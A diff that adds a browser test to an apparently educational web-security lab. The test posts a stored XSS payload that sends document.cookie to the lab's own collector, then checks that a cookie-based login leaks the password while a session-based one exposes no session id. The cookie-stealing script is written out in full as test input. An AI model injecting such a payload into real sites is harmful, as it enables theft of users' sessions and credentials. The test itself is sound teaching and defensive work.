@@ -469,3 +469,56 @@ fn the_dashboard_shows_a_students_login_within_two_seconds() {
         chrome.finish().await;
     });
 }
+
+#[test]
+#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
+fn an_xss_post_sends_the_cookie_flow_password_to_the_collector_and_no_sid() {
+    block_on(async {
+        let server = server();
+        let chrome = Chrome::start(1366, 900).await;
+        let payload = "<script>fetch('/lab/stolen', {method: 'POST', body: 'stolen: ' + document.cookie})</script>";
+        for flow in ["cookie", "session"] {
+            chrome
+                .client
+                .goto(&server.url(&format!("/{flow}/login")))
+                .await
+                .unwrap();
+            chrome.log_in("abc", "1234").await;
+            chrome.wait_for_text("main", "You are logged in as abc.").await;
+            chrome
+                .client
+                .goto(&server.url(&format!("/{flow}/board")))
+                .await
+                .unwrap();
+            chrome
+                .client
+                .find(Locator::Css("#post-body"))
+                .await
+                .unwrap()
+                .send_keys(payload)
+                .await
+                .unwrap();
+            chrome
+                .client
+                .find(Locator::Css("form.card button[type=submit]"))
+                .await
+                .unwrap()
+                .click()
+                .await
+                .unwrap();
+            chrome.wait_for_text(".posts", "#").await;
+            rocket::tokio::time::sleep(Duration::from_millis(500)).await;
+        }
+        chrome.client.goto(&server.url("/lab/stolen")).await.unwrap();
+        let loot = chrome.wait_for_text("#loot", "password=1234").await;
+        assert!(loot.contains("username=abc") && loot.contains("role=student"), "{loot}");
+        let records = chrome.client.find_all(Locator::Css("#loot li")).await.unwrap();
+        assert_eq!(records.len(), 2, "one record per board: {loot}");
+        assert!(
+            !loot.contains("sid="),
+            "the session board's script found no sid: {loot}"
+        );
+        chrome.screenshot("lab-xss-collector").await;
+        chrome.finish().await;
+    });
+}
